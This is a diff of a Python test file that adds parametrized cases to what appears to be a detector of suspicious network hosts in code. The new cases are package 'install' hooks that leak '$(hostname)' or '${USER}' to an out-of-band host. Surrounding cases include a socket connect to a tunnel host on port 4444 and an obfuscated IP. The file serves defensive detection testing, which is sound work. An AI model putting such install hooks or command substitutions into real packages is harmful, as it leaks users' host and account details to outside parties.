@@ -39,6 +39,8 @@ def ids(text: str | bytes, lang: str = "python", path: str = "pkg/a.py") -> list
         ("s.connect(('a.tunnel.example', 4444))", "a.tunnel.example", "tunnel"),
         ("u = 'http://0xcb007107/'", "203.0.113.7", "raw-ip"),
         ("u = 'HTTPS://X.OAST.EXAMPLE/'", "x.oast.example", "oast"),
+        ('"install": "$(hostname)6a.oast.example"', "6a.oast.example", "oast"),
+        ('"install": "${USER}.6a.oast.example"', "6a.oast.example", "oast"),
         ("u = 'https://raw.githubusercontent.com/a/b/raw/c'", None, "code-host"),
     ],
 )
